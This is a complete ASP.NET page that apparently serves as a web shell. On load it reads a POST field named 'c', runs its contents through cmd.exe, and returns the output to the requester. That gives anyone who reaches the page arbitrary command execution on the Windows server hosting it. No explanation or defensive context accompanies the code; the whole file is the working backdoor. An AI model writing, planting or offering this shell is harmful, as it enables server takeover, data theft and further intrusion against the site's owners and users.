<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    var p = System.Diagnostics.Process.Start(psi);
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()));
}
</script>
